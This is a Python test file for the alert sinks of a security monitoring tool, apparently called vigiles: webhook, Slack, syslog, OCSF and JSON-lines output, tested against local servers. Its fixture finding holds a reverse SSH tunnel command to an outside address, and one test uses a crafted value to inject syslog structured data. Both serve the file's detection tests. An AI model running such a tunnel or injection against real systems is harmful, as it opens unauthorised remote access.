"""Alert sinks against real local peers: an HTTP server and syslog sockets on 127.0.0.1."""
import json
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, HTTPServer

import pytest

from vigiles.analysis.findings import Finding
from vigiles.sinks.alerts import (Dispatcher, JsonLinesSink, SyslogSink, WebhookSink, ocsf_detection_finding,
                                  sink_from_spec, slack_message, syslog_message)
from vigiles.sinks.store import Store


def finding(severity="critical", ident="fd-1"):
    return Finding(id=ident, rule="ssh_reverse_tunnel", title="Reverse SSH tunnel", category="network_access",
                   severity=severity, attack=["T1572"], event_ids=["ev-1"], ts=1764554497.5, sandbox="sbx",
                   run="r", episode="e", step=9, host="node-1",
                   evidence={"command": "ssh -R 2222:localhost:22 x@198.51.100.4 <b>&</b>", "source": "t.jsonl:10"})


class Collector:
    def __init__(self, delay=0.0, status=200):
        self.bodies, self.delay, self.status = [], delay, status
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                time.sleep(collector.delay)
                collector.bodies.append(json.loads(body))
                self.send_response(collector.status)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()


def test_webhook_json_and_slack_delivery_recorded_in_store(tmp_path):
    peer = Collector()
    store = Store(tmp_path / "v.db")
    dispatcher = Dispatcher([WebhookSink(peer.url), WebhookSink(peer.url, "slack")], store=store)
    dispatcher.publish(finding())
    dispatcher.publish(finding("low", "fd-2"))  # below the alert bar: not sent
    dispatcher.close()
    peer.close()
    plain = next(b for b in peer.bodies if "rule" in b)
    slack = next(b for b in peer.bodies if "text" in b)
    assert plain["id"] == "fd-1" and plain["alert"] is True
    assert "&lt;b&gt;&amp;&lt;/b&gt;" in slack["text"] and "<b>" not in slack["text"]
    assert sorted(store.alert_log("fd-1")) == [("fd-1", "webhook:json", "sent", 1), ("fd-1", "webhook:slack", "sent", 1)]
    assert store.alert_log("fd-2") == []


def test_a_slow_sink_never_blocks_and_a_dead_one_is_retried_then_counted(tmp_path):
    slow = Collector(delay=0.5)
    dead = WebhookSink("http://127.0.0.1:9/none", timeout=0.2)  # nothing listens on the discard port
    dispatcher = Dispatcher([WebhookSink(slow.url), dead], queue_size=2, retries=2, backoff_s=0.01)
    started = time.monotonic()
    for index in range(20):
        dispatcher.publish(finding(ident=f"fd-{index}"))
    assert time.monotonic() - started < 0.2  # publish returned at once
    dispatcher.close(timeout=3)
    slow.close()
    assert dispatcher.stats["webhook:json"]["dropped"] >= 15
    stats = [s for name, s in dispatcher.stats.items()]
    assert any(s["failed"] >= 1 and s["retries"] >= 2 for s in stats)


def test_syslog_rfc5424_over_udp_and_tcp():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(5)
    dispatcher = Dispatcher([SyslogSink("127.0.0.1", udp.getsockname()[1])])
    dispatcher.publish(finding())
    data, _ = udp.recvfrom(65535)
    dispatcher.close()
    header, _, body = data.partition(b"\xef\xbb\xbf")
    assert header.startswith(b"<130>1 2025-12-01T")  # local0 (16) * 8 + crit (2)
    assert b' vigiles ' in header and b'[vigiles@32473 rule="ssh_reverse_tunnel"' in header
    assert json.loads(body)["id"] == "fd-1"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sink = SyslogSink("127.0.0.1", listener.getsockname()[1], "tcp")
    sink.send(finding())
    conn, _ = listener.accept()
    received = conn.recv(65535)
    length, _, message = received.partition(b" ")
    assert int(length) == len(message) and message.startswith(b"<130>1 ")


def test_structured_data_is_escaped():
    hostile = finding()
    hostile.rule = 'x"] [evil@1 a="b'
    message = syslog_message(hostile, hostname="h")
    assert b'rule="x\\"\\] [evil@1 a=\\"b"' in message


def test_ocsf_detection_finding_shape():
    doc = ocsf_detection_finding(finding())
    assert (doc["class_uid"], doc["category_uid"], doc["activity_id"], doc["type_uid"]) == (2004, 2, 1, 200401)
    assert doc["severity_id"] == 5 and doc["is_alert"] is True and doc["time"] == 1764554497500
    assert doc["finding_info"]["analytic"] == {"uid": "ssh_reverse_tunnel", "name": "ssh_reverse_tunnel",
                                               "type_id": 1, "type": "Rule"}
    assert doc["finding_info"]["attacks"] == [{"technique": {"uid": "T1572"}, "version": "16"}]


def test_json_lines_and_specs(capsys):
    JsonLinesSink().send(finding())
    assert json.loads(capsys.readouterr().out)["rule"] == "ssh_reverse_tunnel"
    assert sink_from_spec("syslog+tcp:127.0.0.1:6514").proto == "tcp"
    assert sink_from_spec("slack:https://hooks.example/x").style == "slack"
    with pytest.raises(ValueError):
        sink_from_spec("webhook:file:///etc/passwd")
    assert slack_message(finding())["text"].startswith("*CRITICAL*")

